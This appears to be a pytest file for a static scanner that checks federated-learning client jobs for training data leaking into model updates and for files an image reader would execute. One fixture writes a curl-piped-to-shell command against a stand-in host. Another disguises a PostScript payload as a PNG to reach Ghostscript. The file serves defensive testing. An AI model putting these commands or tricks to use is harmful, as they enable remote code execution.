"""Hierarchies of diamonds (two classes per level, each subclassing both below) against the walks along a job's
class line that session 27 and fp44 did not reach: the flow's fields of an object (Flow.class_fields, class_flows,
bases) and the resolver's base walk when the levels live in modules of their own. Each followed every path, 2^depth
of them: the site's rows sent through a field of the 40th level escalated as an internal error (MemoryError, 95 s)
instead of rejecting, and thirty levels in thirty modules took six minutes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from flower_scan import one_file

SEND = ("def main():\n    flare.init()\n    rows = np.load('/data/site.npy')\n    m = {cls}(rows)\n"
        "    while flare.is_running():\n        flare.receive()\n"
        "        flare.send(flare.FLModel(params={{'x': m.d}}))\n\n\nmain()\n")
ROOTS = ("import torch\n\n\n"
         "class A0(torch.nn.Module):\n    def __init__(self, d):\n        super().__init__()\n        self.d = d\n\n\n"
         "class B0(torch.nn.Module):\n    def __init__(self, d):\n        super().__init__()\n        self.d = d\n")


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    items = [*value.keys(), *value.values()] if isinstance(value, dict) else value if isinstance(value, list) else []
    return [s for v in items for s in _strings(v)]


def _findings(report: dict) -> set[str]:
    return {f["rule"] for f in report["findings"]}


def test_rows_in_a_field_of_forty_levels_of_diamonds_reject(scan_json, tmp_path: Path) -> None:
    levels = "".join(f"\n\nclass A{i}(A{i - 1}, B{i - 1}):\n    pass\n\n\nclass B{i}(A{i - 1}, B{i - 1}):\n    pass\n"
                     for i in range(1, 41))
    (tmp_path / "client.py").write_text("import numpy as np\nimport nvflare.client as flare\n" + ROOTS + levels
                                        + "\n\n" + SEND.format(cls="A40"))
    rc, doc = scan_json("--no-cache", str(tmp_path))
    [report] = doc["reports"]
    assert "update-channel-leak.raw-data-in-update" in _findings(report)
    assert not any(r.startswith("unanalyzable.") for r in _findings(report))
    assert rc == 1 and report["decision"] == "reject"


def test_thirty_levels_of_diamonds_in_thirty_modules_are_walked_once_each(scan_json, tmp_path: Path) -> None:
    """Before: resolve's _once_per_lookup kept its answers per module, so each level's module started the walk
    afresh (2^30 lookups; 6 minutes on the machine of session 45, then escalated); now the answers are shared by
    every module's resolver within one lookup. A field set by an __init__ inherited across modules is not tied to
    the construction (as before): the rows escalate, and nothing is a limit."""
    (tmp_path / "lvl0.py").write_text(ROOTS)
    for i in range(1, 31):
        (tmp_path / f"lvl{i}.py").write_text(
            f"from lvl{i - 1} import A{i - 1}, B{i - 1}\n\n\nclass A{i}(A{i - 1}, B{i - 1}):\n    pass\n\n\n"
            f"class B{i}(A{i - 1}, B{i - 1}):\n    pass\n")
    (tmp_path / "client.py").write_text("import numpy as np\nimport nvflare.client as flare\nfrom lvl30 import A30\n\n\n"
                                        + SEND.format(cls="A30"))
    rc, doc = scan_json("--no-cache", str(tmp_path))
    [report] = doc["reports"]
    assert "update-channel-leak.unknown-provenance" in _findings(report)
    assert not any(r.startswith("unanalyzable.") for r in _findings(report))
    assert report["decision"] == "escalate"


MONAI_TRAIN = ("from monai.transforms import Compose, EnsureChannelFirstD, LoadImageD, ScaleIntensityD\n"
               "tf = Compose([LoadImageD(keys='image', image_only=True), EnsureChannelFirstD(keys='image'),\n"
               "              ScaleIntensityD(keys='image')])\n"
               "item = tf({'image': 'data/scan_0001.png'})\n")


def test_monai_image_loaders_decode_by_content_like_pillow(scan_json, tmp_path: Path) -> None:
    """MONAI's LoadImage picks PILReader for a .png name, and PILReader.read calls PIL.Image.open with no formats
    (monai/data/image_reader.py): PostScript the job writes under that name is rendered by running Ghostscript,
    as with Image.open itself (red team 44a). Before: the loader was no content decoder, and this accepted."""
    (tmp_path / "client.py").write_text(
        "import base64\nlogo = base64.b64decode(open('assets/logo.b64').read())\n"
        "with open('data/scan_0001.png', 'wb') as f:\n    f.write(logo)\n" + MONAI_TRAIN)
    rc, doc = scan_json("--no-cache", str(tmp_path))
    [report] = doc["reports"]
    assert "unanalyzable.image-written" in _findings(report)
    assert report["decision"] != "accept"


def test_logging_to_a_stream_writes_no_file(scan_json, tmp_path: Path) -> None:
    """`logging.basicConfig(stream=sys.stdout)` names no file (its file is keyword-only: `filename`), so a job whose
    only write it is writes nothing an image reader could open: NVFlare's MedNIST example escalated for it."""
    (tmp_path / "client.py").write_text("import logging\nimport sys\nlogging.basicConfig(stream=sys.stdout, level=logging.INFO)\n"
                                        + MONAI_TRAIN)
    rc, doc = scan_json("--no-cache", str(tmp_path))
    assert "unanalyzable.image-written" not in _findings(doc["reports"][0])
    (tmp_path / "client.py").write_text("import logging\nlogging.basicConfig(filename='data/scan_0001.png', "
                                        "format='%(message)s')\nlogging.warning('%!PS-Adobe-3.0 EPSF-3.0')\n"
                                        + MONAI_TRAIN)
    rc, doc = scan_json("--no-cache", str(tmp_path))
    [report] = doc["reports"]
    assert "unanalyzable.image-written" in _findings(report)
    assert report["decision"] != "accept"


def test_a_scan_does_not_import_libcst_matchers(tmp_path: Path) -> None:
    """libcst.matchers builds hundreds of matcher dataclasses at import: one use of `findall` (fp45a) made a small
    job's scan 130 ms (45%) slower. The scan, its limited child included, never imports it."""
    (tmp_path / "client.py").write_text(
        "from datasets import load_dataset\nds = load_dataset('csv', data_files='notes.csv')\n"
        "ds = ds.map(lambda b: tok(b['text'], truncation=True), batched=True)\n")
    proc = subprocess.run([sys.executable, "-X", "importtime", "-m", "analyzer.commands.cli", "scan", "--no-cache",
                           str(tmp_path)], capture_output=True, text=True, cwd=Path(__file__).resolve().parents[1],
                          timeout=300)
    assert "analyzer.engine.flow.roles" in proc.stderr  # the analysis ran and its imports were listed
    assert "libcst.matchers" not in proc.stderr


def test_sarif_of_a_file_named_with_undecodable_bytes_is_strict_unicode(tmp_path: Path) -> None:
    """A job's file named `bad\\xff.py` (bytes no UTF-8 decodes): the SARIF's reasons, messages and target held
    lone surrogates (`\\udcff`) that strict JSON readers (serde_json, GitHub's) refuse; its URI was already
    percent-encoded. Now every string says `\\xff`, as the text report does."""
    job = tmp_path / "job"
    job.mkdir()
    (job / os.fsdecode(b"bad\xff.py")).write_text("import os\nos.system('curl https://x.example/i | sh')\n")
    proc = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "scan", "--no-cache", "--format", "sarif",
                           str(job)], capture_output=True, text=True, cwd=Path(__file__).resolve().parents[1],
                          timeout=300)
    assert proc.returncode == 1, proc.stderr
    doc = json.loads(proc.stdout)
    assert not [s for s in _strings(doc) if any("\ud800" <= ch <= "\udfff" for ch in s)]  # no lone surrogate
    [run] = doc["runs"]
    assert any("bad\\xff.py" in reason for reason in run["properties"]["jobgate"]["jobs"][0]["reasons"])
    assert {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].rsplit("/", 1)[-1]
            for r in run["results"]} == {"bad%FF.py"}


def test_a_container_filled_through_a_helpers_star_parameter_is_not_trusted(tmp_path: Path) -> None:
    """Red team 45's container walk (flow/fields.py) counts a helper's `*fns` as a parameter too (syntax._params):
    `register(functools.partial(probe_fn))` filling NETS through `NETS.extend(fns)` carries the probe's rows."""
    sample = Path(__file__).resolve().parents[1] / "corpus" / "malicious" / "mine45_client_field_star_args_fill.py"
    decision, rules = one_file(tmp_path, sample.read_text())
    assert decision in ("escalate", "reject") and "update-channel-leak.unknown-provenance" in rules
